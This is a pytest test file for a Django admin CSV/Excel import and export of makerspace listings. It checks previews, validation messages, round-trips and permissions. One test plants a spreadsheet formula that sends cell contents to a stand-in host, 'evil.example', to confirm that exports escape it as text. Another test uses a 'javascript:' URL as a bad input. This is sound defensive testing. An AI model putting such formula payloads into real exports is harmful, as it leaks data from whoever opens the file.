"""Staff import spaces from CSV or Excel through a preview, and export them in the same shape
(spaces/resources.py, wired into the Space admin)."""

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from members.services import grant_space_management
from spaces.models import Network, Space
from spaces.resources import SpaceResource
from tests.factories import (
    CityFactory,
    EquipmentFactory,
    NetworkFactory,
    ServiceFactory,
    SpaceFactory,
    UserFactory,
)

CSV, XLSX = "0", "1"  # the admin's format choices, in spaces.resources.FORMATS order
COLUMNS = SpaceResource.Meta.fields

IMPORT_URL = reverse("admin:spaces_space_import")
CONFIRM_URL = reverse("admin:spaces_space_process_import")
EXPORT_URL = reverse("admin:spaces_space_export")


@pytest.fixture
def vocabulary(db):
    """The rows the spreadsheets name by slug."""
    CityFactory(slug="beijing", name_en="Beijing", name_zh="北京")
    CityFactory(slug="shanghai", name_en="Shanghai", name_zh="上海")
    NetworkFactory(slug="beijing-makerspace", name_zh="北京创客空间")
    NetworkFactory(slug="maker2")
    ServiceFactory(slug="incubation")
    ServiceFactory(slug="events")
    EquipmentFactory(slug="3d-printers")


def a_row(**values) -> dict:
    row = {
        "slug": "bj-751",
        "name_en": "Beijing Makerspace 751 Lab",
        "name_zh": "北京创客空间·751 实验室",
        "kind": "makerspace",
        "status": "published",
        "city": "beijing",
        "networks": "beijing-makerspace,maker2",
        "address_en": "4 Jiuxianqiao Road, Chaoyang District",
        "address_zh": "北京市朝阳区酒仙桥路 4 号",
        "latitude": "39.970100",
        "longitude": "116.495200",
        "floor_area": "6000",
        "desks": "240",
        "resident_makers": "140",
        "website": "https://751.example.com/",
        "email": "751@example.com",
        "phone": "+86 10 5978 9000",
        "founded": "2013-05-04",
        "services": "incubation,events",
        "equipment": "3d-printers",
        "description_en": "Electronics benches and robots.",
        "description_zh": "电子工作台与机器人。",
    }
    return {**row, **values}


def csv_bytes(rows: list[dict], encoding: str = "utf-8") -> bytes:
    text = io.StringIO()
    writer = csv.DictWriter(text, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue().encode(encoding)


def xlsx_bytes(rows: list[dict]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(list(rows[0]))
    for row in rows:
        sheet.append(list(row.values()))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def preview(client, content: bytes, file_format: str = CSV, name: str = "spaces.csv"):
    return client.post(
        IMPORT_URL,
        {"resource": "0", "format": file_format, "import_file": SimpleUploadedFile(name, content)},
    )


def confirm(client, preview_response):
    form = preview_response.context["confirm_form"]
    return client.post(CONFIRM_URL, form.initial)


def export(client, file_format: str = CSV) -> bytes:
    fields = {f"spaceresource_{name}": "on" for name in COLUMNS}
    response = client.post(EXPORT_URL, {"resource": "0", "format": file_format, **fields})
    assert response.status_code == 200
    return response.content


# Importing


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_a_csv_imports_after_its_preview_in_any_encoding_excel_writes(
    admin_client, vocabulary, encoding
):
    content = csv_bytes([a_row(), a_row(slug="sh-jingan", city="shanghai", networks="")], encoding)
    if encoding == "gb18030":  # real GB18030 bytes, which are not UTF-8
        with pytest.raises(UnicodeDecodeError):
            content.decode("utf-8")

    response = preview(admin_client, content)

    assert response.status_code == 200
    result = response.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["new"] == 2
    assert "北京创客空间·751 实验室" in response.content.decode()
    assert not Space.objects.exists()  # the preview is a dry run

    assert confirm(admin_client, response).status_code == 302

    space = Space.objects.get(slug="bj-751")
    assert (space.name_zh, space.address_zh) == (
        "北京创客空间·751 实验室",
        "北京市朝阳区酒仙桥路 4 号",
    )
    assert space.city.slug == "beijing"
    assert sorted(space.networks.values_list("slug", flat=True)) == ["beijing-makerspace", "maker2"]
    assert sorted(space.services.values_list("slug", flat=True)) == ["events", "incubation"]
    assert list(space.equipment.values_list("slug", flat=True)) == ["3d-printers"]
    assert (space.latitude, space.longitude) == (Decimal("39.970100"), Decimal("116.495200"))
    assert (space.floor_area, space.desks, space.resident_makers) == (6000, 240, 140)
    assert space.founded == date(2013, 5, 4)
    assert Space.objects.get(slug="sh-jingan").networks.count() == 0


def test_an_excel_file_imports(admin_client, vocabulary):
    response = preview(
        admin_client, xlsx_bytes([a_row(founded="2013/5/4")]), XLSX, name="spaces.xlsx"
    )

    assert response.context["result"].totals["new"] == 1
    assert confirm(admin_client, response).status_code == 302
    assert Space.objects.get(slug="bj-751").founded == date(2013, 5, 4)


def test_a_row_with_an_existing_slug_updates_that_space(admin_client, vocabulary):
    SpaceFactory(slug="bj-751", name_en="Old name")

    response = preview(admin_client, csv_bytes([a_row()]))
    assert response.context["result"].totals["update"] == 1
    confirm(admin_client, response)

    assert Space.objects.get().name_en == "Beijing Makerspace 751 Lab"


# (the row's changes, the column with the error, words of its message)
BAD_ROWS = [
    # Without a point: one would place a town the gazetteer lacks in the nearest one's country.
    (
        {"city": "Nowhereville", "latitude": "", "longitude": ""},
        "city",
        "No city called “Nowhereville” is listed",
    ),
    ({"kind": "castle"}, "kind", "Use one of: makerspace (Makerspace, 创客空间)"),
    ({"networks": "maker2,nowhere"}, "networks", "nowhere"),
    ({"services": "juggling"}, "services", "juggling"),
    ({"latitude": "100"}, "latitude", "A latitude lies between -90 and 90."),
    ({"longitude": ""}, "latitude", "Give both the latitude and the longitude, or neither."),
    ({"name_en": "", "name_zh": ""}, "name_en", "Give a name in English or Chinese."),
    ({"floor_area": "0"}, "floor_area", "more than 0 m²"),
    ({"desks": "many"}, "desks", "Enter a number, not “many”."),
    ({"founded": "sometime in May"}, "founded", "is not a date"),
    ({"email": "not-an-address"}, "email", "valid email"),
    ({"website": "javascript:alert(1)"}, "website", "valid URL"),
    ({"slug": "not a slug!"}, "slug", "slug"),
]


def test_the_preview_shows_every_bad_rows_errors_and_nothing_is_saved(admin_client, vocabulary):
    rows = [a_row(slug="good-row")]
    rows += [a_row(**{"slug": f"bad-{n}", **changes}) for n, (changes, *_) in enumerate(BAD_ROWS)]

    response = preview(admin_client, csv_bytes(rows))

    assert response.status_code == 200
    result = response.context["result"]
    assert "confirm_form" not in response.context
    invalid = {row.number: row for row in result.invalid_rows}
    assert sorted(invalid) == list(range(2, len(BAD_ROWS) + 2))  # every bad row, the good not
    page = response.content.decode()
    for number, (_, column, words) in enumerate(BAD_ROWS, start=2):
        errors = invalid[number].error_dict
        messages = " ".join(str(message) for field in errors.values() for message in field)
        if column is not None:
            assert column in errors, (number, errors)
        assert words in messages, (number, messages)
    assert "Row 3, column “city”: No city called “Nowhereville” is listed" in page
    assert "Row 9, column “name_en”: Give a name in English or Chinese." in page
    assert "_in_some_language" not in page and "Traceback" not in page
    assert not Space.objects.exists()


def test_confirming_saves_nothing_when_a_row_stopped_passing_since_the_preview(
    admin_client, vocabulary
):
    rows = [a_row(networks=""), a_row(slug="sh", city="shanghai", networks="maker2")]
    response = preview(admin_client, csv_bytes(rows))
    assert response.context["result"].totals["new"] == 2
    Network.objects.filter(slug="maker2").delete()  # meanwhile, someone removes a network

    confirmed = confirm(admin_client, response)

    assert confirmed.status_code == 302
    assert not Space.objects.exists()
    page = admin_client.get(confirmed.url).content.decode()
    assert "Nothing was imported" in page
    assert "Row 3, column “networks”: No networks are called: maker2." in page
    assert not LogEntry.objects.exists()


def test_a_file_that_is_not_csv_is_a_form_error(admin_client, vocabulary):
    response = preview(admin_client, b"\x89PNG\r\n\x1a\n\x00\x00", XLSX, name="spaces.xlsx")

    assert response.status_code == 200
    assert response.context["form"].errors["import_file"]


# Exporting


def some_spaces(count: int) -> None:
    networks = [NetworkFactory(), NetworkFactory()]
    services = [ServiceFactory(), ServiceFactory()]
    for number in range(count):
        space = SpaceFactory(
            name_zh=f"创客空间 {number}",
            address_zh="上海市静安区昌平路 88 号",
            latitude=Decimal("31.236000"),
            longitude=Decimal("121.447000"),
            floor_area=1000 + number,
            desks=50,
            website="https://example.com/",
            founded=date(2012, 10, 8),
        )
        space.networks.set(networks)
        space.services.set(services)
        space.equipment.add(EquipmentFactory())


@pytest.mark.parametrize(("file_format", "name"), [(CSV, "spaces.csv"), (XLSX, "spaces.xlsx")])
def test_an_export_imports_back_without_changes(admin_client, file_format, name):
    some_spaces(3)

    exported = export(admin_client, file_format)
    response = preview(admin_client, exported, file_format, name=name)

    result = response.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert (result.totals["new"], result.totals["update"], result.totals["skip"]) == (0, 0, 3)


def test_an_edited_export_updates_only_the_edited_row(admin_client):
    some_spaces(3)
    rows = list(csv.DictReader(io.StringIO(export(admin_client).decode("utf-8-sig"))))
    rows[1]["name_zh"] = "改过的名字"

    response = preview(admin_client, csv_bytes(rows))

    assert (
        response.context["result"].totals["update"],
        response.context["result"].totals["skip"],
    ) == (1, 2)


def test_the_csv_export_is_utf8_with_a_bom_and_names_related_rows_by_slug(admin_client):
    city = CityFactory(slug="shanghai")
    space = SpaceFactory(slug="jingan", city=city, name_zh="人方空间·静安")
    space.networks.add(NetworkFactory(slug="people-squared"), NetworkFactory(slug="maker2"))

    content = export(admin_client)

    assert content.startswith(b"\xef\xbb\xbf")  # Excel needs it to read Chinese as UTF-8
    (row,) = csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
    assert list(row) == list(COLUMNS)
    assert (row["slug"], row["city"], row["name_zh"]) == ("jingan", "shanghai", "人方空间·静安")
    assert sorted(row["networks"].split(",")) == ["maker2", "people-squared"]


@pytest.mark.parametrize(("file_format", "name"), [(CSV, "spaces.csv"), (XLSX, "spaces.xlsx")])
def test_formulas_a_visitor_typed_come_out_as_text_and_import_back_unchanged(
    admin_client, file_format, name
):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    SpaceFactory(
        slug="lab",
        name_en=hostile,
        name_zh="@SUM(1)",
        phone="+86 10 1234",
        longitude=-0.5,
        latitude=51,
    )

    exported = export(admin_client, file_format)

    if file_format == CSV:
        (row,) = csv.DictReader(io.StringIO(exported.decode("utf-8-sig")))
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
        header, values = [[cell.value for cell in line] for line in sheet.iter_rows()]
        row = dict(zip(header, values, strict=True))
    assert row["name_en"] == "'" + hostile and row["name_zh"] == "'@SUM(1)"
    assert row["phone"] == "'+86 10 1234"
    assert str(row["longitude"]) == "-0.500000"  # a number stays a number
    result = preview(admin_client, exported, file_format, name=name).context["result"]
    assert not result.has_validation_errors(), result.report.error_sentences()
    assert (result.totals["skip"], result.totals["update"]) == (1, 0)  # nothing changes


def test_export_queries_do_not_grow_with_rows(admin_client, django_assert_max_num_queries):
    # session, user, the list's filter choices (city, networks, services, equipment), the
    # spaces with their city (count, then a page of up to 100), their networks, services and
    # equipment: one more page and its 3 prefetches for every 100 spaces beyond the first
    some_spaces(2)
    with django_assert_max_num_queries(11):
        export(admin_client)

    some_spaces(6)
    with django_assert_max_num_queries(11):
        export(admin_client)


# Who may


def staff_with(*codenames: str):
    user = UserFactory(is_staff=True)
    user.user_permissions.set(Permission.objects.filter(codename__in=codenames))
    return user


def test_staff_who_may_only_change_spaces_cannot_import(client, db):
    # Like a space manager: may change (their own) spaces, may not add any.
    client.force_login(staff_with("view_space", "change_space"))

    assert client.get(IMPORT_URL).status_code == 403
    assert client.post(CONFIRM_URL, {}).status_code == 403
    changelist = client.get(reverse("admin:spaces_space_changelist"))
    assert IMPORT_URL not in changelist.content.decode()
    assert EXPORT_URL in changelist.content.decode()


def test_staff_who_may_add_spaces_can_import(client, vocabulary):
    client.force_login(staff_with("view_space", "add_space", "change_space"))

    response = preview(client, csv_bytes([a_row()]))

    assert response.status_code == 200
    assert confirm(client, response).status_code == 302
    assert Space.objects.filter(slug="bj-751").exists()


def test_staff_who_cannot_see_spaces_cannot_export(client, db):
    client.force_login(staff_with("view_city"))

    assert client.get(EXPORT_URL).status_code == 403


def test_a_space_manager_cannot_import_and_exports_only_their_spaces(client, db):
    manager = UserFactory()
    grant_space_management(user=manager, space=SpaceFactory(slug="mine"))
    SpaceFactory(slug="not-mine")
    client.force_login(manager)

    assert client.get(IMPORT_URL).status_code == 403
    exported = csv.DictReader(io.StringIO(export(client).decode("utf-8-sig")))
    assert [row["slug"] for row in exported] == ["mine"]
